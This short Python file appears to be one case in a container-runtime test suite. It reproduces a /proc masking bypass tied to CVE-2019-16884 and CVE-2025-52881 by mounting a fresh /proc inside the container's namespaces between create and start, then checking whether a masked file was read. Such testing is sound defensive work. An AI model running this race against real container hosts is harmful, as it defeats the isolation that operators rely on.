"""Another /proc is mounted over the container's own between create and start: nothing in it is masked or read-only."""

import os

from bypass import attested, world

SOURCE = "CVE-2019-16884, CVE-2025-52881: another /proc than the one that was prepared"
WAY = "race"
STOPPED = attested("/proc")


def attack(t):
    t.spec["linux"]["maskedPaths"].append("/proc/interrupts")
    t.create("cat /proc/interrupts")

    def mount_it():
        child = os.fork()  # only a child is in the process namespace
        if not child:
            world.mount("proc", "/proc", "proc")
            os._exit(0)
        os.waitpid(child, 0)
    world.within(t.pid, ["pid", "mnt"], mount_it)
    t.start()
    return "CPU0" in t.ended() and "interrupts"
